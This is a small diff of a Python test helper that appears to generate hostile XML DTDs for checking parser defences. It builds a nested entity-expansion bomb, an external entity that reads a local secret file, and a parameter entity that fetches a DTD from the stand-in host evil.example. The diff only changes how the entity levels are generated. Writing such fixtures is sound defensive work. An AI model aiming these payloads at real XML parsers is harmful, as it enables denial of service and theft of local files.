@@ -22,7 +22,7 @@ SECRET = "what nobody may read"
 
 def declared(secret: Path) -> str:
     """A billion words behind &i;, a file of this computer behind &x;, another's computer behind %y;."""
-    levels = "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip(LEVELS[:-1], LEVELS[1:], strict=True))
+    levels = "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in pairwise(LEVELS))
     return (
         f'[<!ENTITY a "swollen ">{levels}<!ENTITY x SYSTEM "{secret.as_uri()}">'
         f'<!ENTITY % y SYSTEM "https://evil.example/y.dtd">%y;]'
